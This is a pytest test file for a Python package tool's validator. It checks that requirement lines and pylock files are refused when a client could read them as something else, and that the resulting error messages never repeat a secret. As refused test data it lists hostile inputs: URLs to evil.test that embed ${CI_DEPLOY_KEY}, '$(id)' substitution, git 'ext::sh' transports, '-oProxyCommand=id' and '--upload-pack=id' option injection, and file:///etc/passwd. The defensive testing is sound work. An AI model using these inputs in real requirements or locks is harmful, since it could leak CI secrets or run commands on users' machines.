"""What a shared list and a lock may have: what a client reads as something else is refused, in every spelling."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from support.generated import given, st

from ppmctl.distributions import direct_url, lock, shareable
from ppmctl.distributions.shareable import requirement
from ppmctl.errors import UsageError

TOKEN = "ghp_" + "aB3" * 12
URL = "https://files.test/a-1.0-py3-none-any.whl"


@pytest.mark.parametrize(
    "text",
    [
        "numpy",
        "numpy>=2,<3",
        "numpy ==2.* ; python_version >= '3.11' and sys_platform != 'win32'",
        "uvicorn[standard,http]~=0.30",
        "legacy===2012-final",
        f"a @ {URL}",
        f"a @ {URL}#sha256={'ab' * 32}",
        f"a @ {URL}#sha256={'ab' * 32}&egg=a",
        f"a @ {URL} ; sys_platform == 'linux'",
        "a @ http://127.0.0.1:8080/packages/a/a-1.0.tar.gz",
        "a @ http://[::1]:8080/packages/a/a-1.0.tar.gz",
        "a @ HTTPS://Files.Test/a.whl",
        "a @ https://files.test/a%20b/%C3%BCber.whl",
        "a @ https://files.test/f%C3%BCr.whl?inline=false&ref=main",
        "a @ https://files.test/a.whl?keyword=x&author=y&design=z&token=",
        "a @ https://files.test/@team/a.whl",
        "a @ git+https://git.test/team/a.git@v1#subdirectory=packages/a&egg=a",
        "a @ git+https://git.test/team/a.git@feature/some-thing",
        "a @ git+ssh://git@git.test/team/a.git@v1",
        "a @ git+ssh://git@git.test:2222/team/a.git",
        "a @ hg+https://hg.test/a@tip",
        "a @ svn+ssh://me@svn.test/a/trunk@17",
        "a @ bzr+sftp://me@bzr.test/a/trunk",
    ],
)
def test_a_requirement_that_means_the_same_to_everybody_is_accepted(text: str) -> None:
    assert str(requirement(f" {text} "))


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        # variables, which pip and uv replace anywhere in a line
        ("a @ https://evil.test/${CI_DEPLOY_KEY}/a.whl", "environment variable"),
        ("a @ https://evil.test/a.whl?x=${CI_DEPLOY_KEY}", "environment variable"),
        ("a @ https://evil.test/a.whl#egg=${CI_DEPLOY_KEY}", "environment variable"),
        ("a @ https://${CI_DEPLOY_KEY}.evil.test/a.whl", "environment variable"),
        ("a @ https://${USER}:${CI_DEPLOY_KEY}@evil.test/a.whl", "environment variable"),
        ("a @ git+https://evil.test/a.git@${CI_DEPLOY_KEY}", "environment variable"),
        ("a @ ${PROJECT_ROOT}/a.whl", "environment variable"),
        ("a=={${VERSION}}", "environment variable"),
        ("${NAME}", "environment variable"),
        ("a[${EXTRA}]", "environment variable"),
        ('a; platform_version == "${CI_DEPLOY_KEY}"', "environment variable"),
        ("a @ https://evil.test/$CI_DEPLOY_KEY/a.whl", "environment variable"),
        ("a @ https://evil.test/$(id)/a.whl", "environment variable"),
        ("a @ https://evil.test/%CI_DEPLOY_KEY%/a.whl", "hexadecimal"),
        ("a @ https://evil.test/100%", "hexadecimal"),
        # options and comments
        ("-r other.txt", "option"),
        ("-rother.txt", "option"),
        ("-e .", "option"),
        ("-e git+https://git.test/a.git#egg=a", "option"),
        ("--index-url https://evil.test/", "option"),
        ("--extra-index-url=https://evil.test/", "option"),
        ("--trusted-host evil.test", "option"),
        ("a --hash=sha256:ab", "option"),
        ("a --config-settings=x=y", "option"),
        ("a --global-option=x", "option"),
        (f"a @ {URL} --hash=sha256:ab", "option"),
        ('a; platform_version == "x --config-settings=y"', "option"),
        ('a; platform_version == "x -r y"', "option"),
        ("# a", "comment"),
        ("a # comment", "comment"),
        ('a; platform_version == "x # y"', "comment"),
        # lines
        ("a\\", "backslash"),
        ("a @ https://x.test/\\", "backslash"),
        ("a @ C:\\a.whl", "backslash"),
        ("a\nb", "U+000A"),
        ("a\rb", "U+000D"),
        ("a\x0bb", "U+000B"),
        ("a\x0cb", "U+000C"),
        ("a\x1cb", "U+001C"),
        ("a\x85b", "U+0085"),
        ("a\u2028b", "U+2028"),
        ("a\u2029b", "U+2029"),
        ("a\tb", "U+0009"),
        ("a\0b", "U+0000"),
        ("a\x1b[2Jb", "U+001B"),
        ("a @ https://x.test/\u202egnp.whl", "U+202E"),
        ("a @ https://x.test/\u2066a.whl", "U+2066"),
        ("a @ https://x.test/\u200ba.whl", "U+200B"),
        ("a\u00a0>=1", "U+00A0"),
        ("a @ https://x.test/\ud800", "U+D800"),
        # local files
        ("a @ file:///etc/passwd", "does not start with https"),
        ("a @ FILE:///etc/passwd", "does not start with https"),
        ("a @ file:a.whl", "does not start with https"),
        ("a @ file:~/a.whl", "does not start with https"),
        ("a @ ./a.whl", "does not start with https"),
        ("a @ ../a.whl", "does not start with https"),
        ("a @ /tmp/a.whl", "does not start with https"),
        ("a @ ~/a.whl", "does not start with https"),
        ("a @ a.whl", "does not start with https"),
        ("a @ //host/a.whl", "does not start with https"),
        ("a @ c:/a.whl", "does not start with https"),
        ("a.whl", "local file"),
        ("a-1.0.tar.gz", "local file"),
        ("A.ZIP", "local file"),
        ("a.zip[extra]", "local file"),
        ("a.zip [extra] ; python_version > '3'", "local file"),
        ("a===1.zip", "local file"),
        ("a===../../x", "local file"),
        ("./a", "not a requirement"),
        ("../a", "not a requirement"),
        ("/tmp/a", "not a requirement"),
        ("file:///tmp/a", "not a requirement"),
        (URL, "not a requirement"),
        # programs that a client runs
        ("a @ git+ext::sh", "does not start with https"),
        ("a @ git+ext::sh%20-c%20id", "does not start with https"),
        ("a @ ext::sh", "does not start with https"),
        ("a @ git+file:///srv/a.git", "does not start with https"),
        ("a @ git+fd::17", "does not start with https"),
        ("a @ git+ftp://git.test/a", "does not start with https"),
        ("a @ git+git@git.test:a.git", "does not start with https"),
        ("a @ ssh://git@git.test/a.git", "does not start with https"),
        ("a @ ftp://files.test/a.whl", "does not start with https"),
        ("a @ data:text/plain,a", "does not start with https"),
        ("a @ hg+static-http://hg.test/a", "does not start with https"),
        ("a @ bzr+lp:a", "does not start with https"),
        ("a @ https:a.whl", "no valid host"),
        ("a @ https:///a.whl", "no valid host"),
        ("a @ git+ssh://-oProxyCommand=id/a", "starts with -"),
        ("a @ git+ssh://-oProxyCommand=id@git.test/a", "starts with -"),
        ("a @ git+ssh://%2DoProxyCommand=id/a", "no valid host"),
        ("a @ hg+https://hg.test/a@--config=x=y", "starts with -"),
        ("a @ git+https://git.test/a.git@-x", "starts with -"),
        ("a @ git+https://git.test/a.git@%2Dx", "starts with -"),
        ("a @ git+https://git.test/a.git#subdirectory=../../x", "subdirectory"),
        ("a @ git+https://git.test/a.git#egg=a&subdirectory=/etc", "subdirectory"),
        ("a @ git+https://git.test/a.git#subdirectory=a&subdirectory=a/../..", "subdirectory"),
        ("a @ https://x.test/a.zip#subdirectory=%2E%2E/x", "subdirectory"),
        ("a @ https://x.test:port/a.whl", "invalid"),
        ("a @ https://[x.test/a.whl", "invalid"),
        # more than a line
        ("a" * 3000, "too long"),
        (f"a ; {'(' * 950}os_name=='a'{')' * 950}", "parentheses"),
        (f"a ; {'(' * 101}os_name=='a'{')' * 101}", "parentheses"),
        ("", "not a requirement"),
        ("a b", "not a requirement"),
    ],
)
def test_a_requirement_that_a_client_would_read_as_something_else_is_refused(text: str, reason: str) -> None:
    with pytest.raises(UsageError) as refused:
        requirement(text)
    assert reason in refused.value.message
    assert refused.value.message.isprintable()


@pytest.mark.parametrize(
    "url",
    [
        "https://me:s3cret@x.test/a.whl",
        "https://s3cret@x.test/a.whl",
        "https://:s3cret@x.test/a.whl",
        "HTTP://s3cret@x.test/a.whl",
        "git+https://oauth2:s3cret@x.test/a.git",
        "git+https://s3cret@x.test/a.git@v1",
        "git+ssh://git:s3cret@x.test/a.git",
        "git+git://s3cret@x.test/a.git",
        "https://x.test/a.whl?token=s3cret",
        "https://x.test/a.whl?a=b&access_token=s3cret",
        "https://x.test/a.whl?a=b;private-token=s3cret",
        "https://x.test/a.whl?%74oken=s3cret",
        "https://x.test/a.whl?sig=s3cret&se=2030",
        "https://x.test/a.whl?X-Amz-Credential=x&X-Amz-Signature=s3cret",
        "https://x.test/a.whl?AWSAccessKeyId=s3cret",
        "https://x.test/a.whl?apiKey=s3cret",
        "https://x.test/a.whl?apikey=s3cret",
        "https://x.test/a.whl?key=s3cret",
        "https://x.test/a.whl?PASSWORD=s3cret",
        "https://x.test/a.whl?clientSecret=s3cret",
        "https://x.test/a.whl?jwt=s3cret",
        "https://x.test/a.whl#token=s3cret",
        "https://x.test/a.whl#sha256=ab&auth=s3cret",
        f"https://x.test/{TOKEN}/a.whl",
        f"https://x.test/a.whl?x={TOKEN}",
        f"https://x.test/{TOKEN.replace('_', '%5F')}/a.whl",
    ],
)
def test_a_url_with_a_secret_is_refused_without_repeating_it(url: str) -> None:
    with pytest.raises(UsageError, match="has a credential in its URL") as refused:
        requirement(f"a @ {url}")
    assert "s3cret" not in refused.value.message + refused.value.hint
    assert TOKEN not in refused.value.message + refused.value.hint
    with pytest.raises(UsageError, match=r"has a URL at x\.test with a credential") as refused:
        lock.read(LOCK.replace(URL, url))
    assert "s3cret" not in refused.value.message


@pytest.mark.parametrize("secret", ["s3cret" * 400, "s3cret" * 5_000, f"u:{'s3cret' * 5_000}"])
def test_of_a_requirement_that_is_too_long_no_part_of_a_secret_is_shown(secret: str) -> None:
    with pytest.raises(UsageError, match="too long") as refused:
        requirement(f"a @ https://{secret}@x.test/a.whl")
    assert "s3cret" not in refused.value.message + refused.value.hint


@given(st.text("ab/.#-$%{}@:\\ ", max_size=12))
def test_no_refused_line_is_accepted_with_more_around_it(text: str) -> None:
    """Whatever is accepted as a part of a URL has none of the signs that a requirements.txt gives a meaning to."""
    try:
        parsed = requirement(f"a @ https://x.test/{text}")
    except UsageError:
        return
    url = parsed.url or ""
    assert not any(sign in url for sign in ("$", "\\", " "))
    assert direct_url.problem(url) == direct_url.secret(url) == ""


LOCK = f"""\
lock-version = "1.0"
created-by = "uv"

[[packages]]
name = "a"
version = "1.0"
marker = "python_version >= '3.11'"
index = "https://index.test/simple/"
wheels = [{{ name = "a-1.0-py3-none-any.whl", url = "{URL}", hashes = {{ sha256 = "ab" }} }}]
sdist = {{ url = "https://files.test/a-1.0.tar.gz", hashes = {{ sha256 = "cd" }} }}

[[packages]]
name = "b"
archive = {{ url = "https://files.test/b.zip", hashes = {{ sha256 = "ab" }}, subdirectory = "python" }}

[[packages]]
name = "c"
vcs = {{ type = "git", url = "https://git.test/c.git", requested-revision = "v1", commit-id = "0123ab" }}

[tool.uv]
note = "$HOME and \\\\ are nobody's business"
"""


def test_a_lock_of_an_index_and_of_direct_urls_is_accepted() -> None:
    assert len(lock.read(LOCK).pins) == 3
    assert len(lock.read(LOCK.replace("\n", "\r\n")).pins) == 3
    assert lock.read(f"# für alle\n\t# {URL}\n{LOCK}")


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (f'url = "{URL}"', 'path = "/etc/a-1.0-py3-none-any.whl"', "local folder"),
        (f'url = "{URL}"', f'url = "{URL}", path = "a-1.0-py3-none-any.whl"', "local folder"),
        ('url = "https://files.test/a-1.0.tar.gz"', 'path = "../a-1.0.tar.gz"', "local folder"),
        ('url = "https://files.test/b.zip"', 'path = "C:\\\\b.zip"', "local folder"),
        ('url = "https://git.test/c.git"', 'path = "../c"', "local folder"),
        (
            'archive = { url = "https://files.test/b.zip", hashes = { sha256 = "ab" }, subdirectory = "python" }',
            'directory = { path = ".", editable = true }',
            "local folder",
        ),
        (URL, "file:///srv/a-1.0-py3-none-any.whl", "does not start with https"),
        (URL, "../a-1.0-py3-none-any.whl", "does not start with https"),
        (URL, "https://evil.test/${CI_DEPLOY_KEY}/a-1.0-py3-none-any.whl", "environment variable"),
        (URL, "https://evil.test/%CI_DEPLOY_KEY%/a-1.0-py3-none-any.whl", "hexadecimal"),
        (URL, "https://evil.test/\\u0024{CI_DEPLOY_KEY}/a-1.0-py3-none-any.whl", "environment variable"),
        (URL, "https:\\u002f\\u002fme:s3cret@x.test/a-1.0-py3-none-any.whl", "credential"),
        ("https://index.test/simple/", "https://me:s3cret@index.test/simple/", "credential"),
        ("https://index.test/simple/", "file:///srv/simple/", "does not start with https"),
        ("https://index.test/simple/", "https://index.test/${CI_DEPLOY_KEY}/", "environment variable"),
        ("https://git.test/c.git", "ext::sh -c id", "option"),
        ("https://git.test/c.git", "ext::sh", "does not start with https"),
        ("https://git.test/c.git", "file:///srv/c.git", "does not start with https"),
        ("https://git.test/c.git", "/srv/c.git", "does not start with https"),
        ("https://git.test/c.git", "https://me:s3cret@git.test/c.git", "credential"),
        ("https://git.test/c.git", "ssh://-oProxyCommand=id/c.git", "starts with -"),
        ('"git"', '"cvs"', "does not start with https"),
        ('"v1"', '"--upload-pack=id"', "option"),
        ('"0123ab"', '"--upload-pack=id"', "option"),
        ('"python"', '"../.."', "subdirectory"),
        ('"python"', '"/etc"', "subdirectory"),
        ('"python"', '"C:/x"', "subdirectory"),
        ('name = "a-1.0-py3-none-any.whl"', 'name = "../a-1.0-py3-none-any.whl"', ""),
        ("python_version >= '3.11'", "platform_version == '${CI_DEPLOY_KEY}'", "environment variable"),
        ("python_version >= '3.11'", "platform_version == 'x --config-settings=y'", "option"),
        ('created-by = "uv"', 'created-by = "uv"  # https://me:s3cret@x.test/', "credential"),
        ('created-by = "uv"', 'created-by = "uv"  # \u202e', "U+202E"),
        ('created-by = "uv"', 'created-by = "\u2028"', "U+2028"),
        ('created-by = "uv"', 'created-by = "u\rv"', "U+000D"),
        ('created-by = "uv"', 'created-by = "\ud800"', "U+D800"),
    ],
)
def test_a_lock_that_is_not_the_same_everywhere_is_refused(old: str, new: str, reason: str) -> None:
    assert old in LOCK
    with pytest.raises(UsageError) as refused:
        lock.read(LOCK.replace(old, new), where="x/pylock.toml")
    assert refused.value.message.startswith("x/pylock.toml ")
    assert reason in refused.value.message
    assert "s3cret" not in refused.value.message


def test_a_lock_has_a_limited_size_and_number_of_packages() -> None:
    file = '{url = "https://x.test/b-1.zip", hashes = {a = "0"}}'
    package = f'[[packages]]\nname = "b"\nversion = "1"\nsdist = {file}\n'
    head = LOCK.partition("[[packages]]")[0]
    lock.require_size(head + package * 5_000)
    with pytest.raises(UsageError, match="over 5000 packages"):
        lock.require_size(head + package * 5_001)
    with pytest.raises(UsageError, match="over 4 MB"):
        lock.require_size(LOCK + "#" * (4 << 20))
    assert lock.read(LOCK + "#" * (4 << 20)).pins, "an older release published it"
    with pytest.raises(UsageError, match="over 16 MB"):
        lock.read(LOCK + "#" * (16 << 20))


def test_a_lock_that_several_threads_read_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[str] = []

    def load(text: str, *, where: str) -> object:
        parsed.append(text)
        time.sleep(0.05)
        return shareable.load_lock(text, where=where)

    monkeypatch.setattr(lock, "load_lock", load)
    with ThreadPoolExecutor(4) as pool:
        assert len(set(pool.map(lock.read, [f"{LOCK}# once"] * 4))) == 1
    assert len(parsed) == 1


def test_the_error_of_a_lock_is_short_and_has_no_secret() -> None:
    with pytest.raises(UsageError) as refused:
        lock.read(LOCK.replace('version = "1.0"', f'version = "https://me:{"s3cret" * 1_000}@x {"x" * 100_000}"', 2))
    assert len(refused.value.message) < 2_500
    assert "s3cret" not in refused.value.message
